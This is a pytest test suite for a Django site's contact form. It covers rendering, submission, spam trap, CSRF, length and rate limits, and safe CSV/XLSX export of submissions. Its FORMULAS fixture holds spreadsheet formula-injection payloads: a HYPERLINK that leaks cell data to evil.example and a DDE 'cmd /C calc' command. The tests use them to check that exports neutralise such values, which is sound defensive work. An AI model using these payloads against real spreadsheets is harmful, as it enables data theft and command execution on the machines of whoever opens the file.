import csv
import io
import smtplib
from http import HTTPStatus

from django.core import mail
from django.test import Client

import pytest
from openpyxl import load_workbook

from institute.forms import SPAM_TRAP_FIELD
from institute.models import FormEmail
from tests.factories import FormFieldFactory, FormPageFactory

pytestmark = pytest.mark.django_db


def valid_message(**changes):
    return {"your_name": "Ada Price", "your_email": "ada@example.com", "your_message": "Hello.", **changes}


def test_form_page_shows_a_labelled_field_for_each_form_field(client, contact_page, soup):
    response = client.get("/contact/")

    assert response.status_code == HTTPStatus.OK
    page = soup(response)
    assert page.h1.text == "Contact us"
    form = page.find("form", class_="form")
    for name, label in [("your_name", "Your name"), ("your_email", "Your email"), ("your_message", "Your message")]:
        field = form.find(attrs={"name": name})
        assert field.has_attr("required")
        assert form.find("label", attrs={"for": field["id"]}).text.strip() == f"{label} (required)"
    trap = form.find("input", attrs={"name": SPAM_TRAP_FIELD})
    assert trap["tabindex"] == "-1" and trap.find_parent(class_="form-trap")


def test_sending_the_form_stores_and_emails_the_message(client, contact_page, soup):
    response = client.post("/contact/", valid_message())

    assert response.status_code == HTTPStatus.FOUND
    assert response["Location"] == "/contact/?sent"
    thank_you = client.get(response["Location"])
    assert soup(thank_you).h1.text == "Thank you"
    assert "we will reply soon" in soup(thank_you).select_one("[role=status]").text
    client.get(response["Location"])  # reloading the thank-you page sends nothing again
    submission = contact_page.get_submissions().get()
    assert submission.get_data()["your_email"] == "ada@example.com"
    assert SPAM_TRAP_FIELD not in submission.form_data
    [email] = mail.outbox
    assert email.to == ["enquiries@productivity.example"]
    assert "Your message: Hello." in email.body
    assert "Leave this field empty" not in email.body


def test_a_mail_server_failure_still_keeps_the_message(client, contact_page, monkeypatch):
    def mail_server_down(*args, **kwargs):
        raise smtplib.SMTPConnectError(421, "try later")

    monkeypatch.setattr("institute.mail.send_mail", mail_server_down)

    response = client.post("/contact/", valid_message())

    assert response.status_code == HTTPStatus.FOUND
    assert contact_page.get_submissions().count() == 1
    email = FormEmail.objects.get()
    assert email.status == FormEmail.Status.FAILED
    assert email.last_error == "SMTPConnectError: (421, 'try later')"


def test_error_summary_links_to_radio_buttons(client, contact_page, soup):
    FormFieldFactory(page=contact_page, label="Reply by", field_type="radio", choices="E-mail\nPhone")

    page = soup(client.post("/contact/", valid_message()))

    link = page.select_one(".error-summary a")
    assert link.text == "Reply by: This field is required."
    assert page.find(id=link["href"].removeprefix("#"))["type"] == "radio"


def test_missing_and_malformed_fields_are_form_errors(client, contact_page, soup):
    response = client.post("/contact/", valid_message(your_name="", your_email="not-an-email"))

    assert response.status_code == HTTPStatus.OK
    page = soup(response)
    assert page.title.text.startswith("Error: ")
    summary = [link.text for link in page.select(".error-summary a")]
    assert summary == ["Your name: This field is required.", "Your email: Enter a valid email address."]
    assert page.select_one(".error-summary a")["href"] == "#id_your_name"
    assert not contact_page.get_submissions().exists()
    assert mail.outbox == []


def test_robots_filling_the_spam_trap_send_nothing(client, contact_page, soup):
    response = client.post("/contact/", valid_message(**{SPAM_TRAP_FIELD: "http://spam.example"}))

    assert response.status_code == HTTPStatus.OK
    assert "leave the last field empty" in soup(response).select_one(".error-summary").text
    assert not contact_page.get_submissions().exists()
    assert mail.outbox == []


def test_forged_post_without_csrf_token_is_refused(contact_page):
    response = Client(enforce_csrf_checks=True).post("/contact/", valid_message())

    assert response.status_code == HTTPStatus.FORBIDDEN
    assert not contact_page.get_submissions().exists()


def test_form_page_lives_under_the_home_page(home_page):
    from institute.models import FormPage, HomePage, StandardPage

    assert FormPage.allowed_parent_page_models() == [HomePage, StandardPage]
    assert FormPage.allowed_subpage_models() == []


def test_text_fields_tell_the_browser_their_maximum_length(client, contact_page, soup):
    FormFieldFactory(page=contact_page, label="Your website", field_type="url", required=False)

    form = soup(client.get("/contact/")).find("form", class_="form")

    assert form.find("input", attrs={"name": "your_name"})["maxlength"] == "500"
    assert form.find("input", attrs={"name": "your_email"})["maxlength"] == "320"
    assert form.find("input", attrs={"name": "your_website"})["maxlength"] == "500"
    assert form.find("textarea", attrs={"name": "your_message"})["maxlength"] == "5000"


def test_a_message_over_the_length_limit_is_a_form_error(client, contact_page, soup):
    response = client.post("/contact/", valid_message(your_name="A" * 501, your_message="x" * 5001))

    assert response.status_code == HTTPStatus.OK
    assert [link.text for link in soup(response).select(".error-summary a")] == [
        "Your name: Ensure this value has at most 500 characters (it has 501).",
        "Your message: Ensure this value has at most 5000 characters (it has 5001).",
    ]
    assert not contact_page.get_submissions().exists()
    assert not FormEmail.objects.exists()
    assert mail.outbox == []


def test_numbers_and_hidden_fields_have_limits_too(client, contact_page, soup):
    FormFieldFactory(page=contact_page, label="Staff count", field_type="number", required=False)
    FormFieldFactory(page=contact_page, label="Campaign", field_type="hidden", required=False)

    response = client.post("/contact/", valid_message(staff_count="9" * 31, campaign="c" * 501))

    assert response.status_code == HTTPStatus.OK
    summary = soup(response).select_one(".error-summary").text
    assert "Ensure that there are no more than 30 digits in total." in summary
    assert "Ensure this value has at most 500 characters (it has 501)." in summary
    assert not contact_page.get_submissions().exists()


def test_line_breaks_count_once_as_the_browser_counts_them(client, contact_page):
    # 50 lines of 100 characters: 5,000 in the browser, which sends each line break as two characters.
    message = "\r\n".join(["x" * 99] * 50) + "\r\n"

    response = client.post("/contact/", valid_message(your_message=message))

    assert response.status_code == HTTPStatus.FOUND
    stored = contact_page.get_submissions().get().get_data()["your_message"]
    assert len(stored) == 4999 and "\r" not in stored


def test_a_sixth_message_from_one_address_within_ten_minutes_is_refused(client, contact_page, soup):
    for _ in range(3):
        assert client.post("/contact/", valid_message(your_email="not-an-email")).status_code == HTTPStatus.OK
    for _ in range(5):
        assert client.post("/contact/", valid_message()).status_code == HTTPStatus.FOUND

    response = client.post("/contact/", valid_message())

    assert response.status_code == HTTPStatus.OK
    summary = soup(response).select_one(".error-summary").text
    assert "You have sent this form several times in the last 10 minutes. Please try again later" in summary
    assert contact_page.get_submissions().count() == 5
    assert len(mail.outbox) == 5
    # Someone else, and the same visitor on another form, are not held back.
    assert client.post("/contact/", valid_message(), REMOTE_ADDR="192.0.2.7").status_code == HTTPStatus.FOUND
    other_form = FormPageFactory(parent=contact_page.get_parent(), slug="feedback")
    FormFieldFactory(page=other_form, label="Your message", field_type="multiline")
    assert client.post("/feedback/", {"your_message": "Hello."}).status_code == HTTPStatus.FOUND


def test_ipv6_addresses_count_by_their_network(client, contact_page, soup):
    for host in range(1, 6):
        response = client.post("/contact/", valid_message(), REMOTE_ADDR=f"2001:db8:0:1::{host}")
        assert response.status_code == HTTPStatus.FOUND

    response = client.post("/contact/", valid_message(), REMOTE_ADDR="2001:db8:0:1::ffff")

    assert response.status_code == HTTPStatus.OK
    assert "several times" in soup(response).select_one(".error-summary").text
    assert contact_page.get_submissions().count() == 5


FORMULAS = {
    "your_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "your_email": "+cmd@example.com",
    "your_message": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def submissions_with_formulas(client, contact_page):
    FormFieldFactory(page=contact_page, label="=Rating", field_type="singleline", required=False)
    client.post("/contact/", valid_message(**FORMULAS, rating="-2+3"))
    client.post("/contact/", valid_message())
    # Form fields strip leading tabs and line breaks, but older or imported submissions may have them.
    contact_page.get_submission_class().objects.create(
        page=contact_page,
        form_data=valid_message(your_name="\t=1+1", your_message="\r=1+1", rating="Good"),
    )
    return contact_page


def test_csv_download_of_submissions_turns_formulas_into_text(admin_client, submissions_with_formulas):
    response = admin_client.get(f"/admin/forms/submissions/{submissions_with_formulas.pk}/?export=csv")

    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["Submission date", "Your name", "Your email", "Your message", "'=Rating"]
    assert [row[1:] for row in rows[1:]] == [
        [
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
            "'+cmd@example.com",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'-2+3",
        ],
        ["Ada Price", "ada@example.com", "Hello.", ""],
        ["'\t=1+1", "ada@example.com", "'\r=1+1", "Good"],
    ]


def test_xlsx_download_of_submissions_keeps_formulas_as_text(admin_client, submissions_with_formulas):
    response = admin_client.get(f"/admin/forms/submissions/{submissions_with_formulas.pk}/?export=xlsx")

    assert response.status_code == HTTPStatus.OK
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, formulas, plain, whitespace = sheet.iter_rows()
    assert [cell.value for cell in header][1:] == ["Your name", "Your email", "Your message", "'=Rating"]
    # Excel's own mark for a value typed after an apostrophe: shown as typed, and text even when edited.
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in formulas[1:]] == [
        (FORMULAS["your_name"], "s", True),
        (FORMULAS["your_email"], "s", True),
        (FORMULAS["your_message"], "s", True),
        ("-2+3", "s", True),
    ]
    assert [(cell.value, cell.quotePrefix) for cell in plain[1:4]] == [
        ("Ada Price", False),
        ("ada@example.com", False),
        ("Hello.", False),
    ]
    # (XML reads a lone carriage return back as a line feed.)
    assert [(cell.value, cell.quotePrefix) for cell in whitespace[1:4:2]] == [("\t=1+1", True), ("\n=1+1", True)]
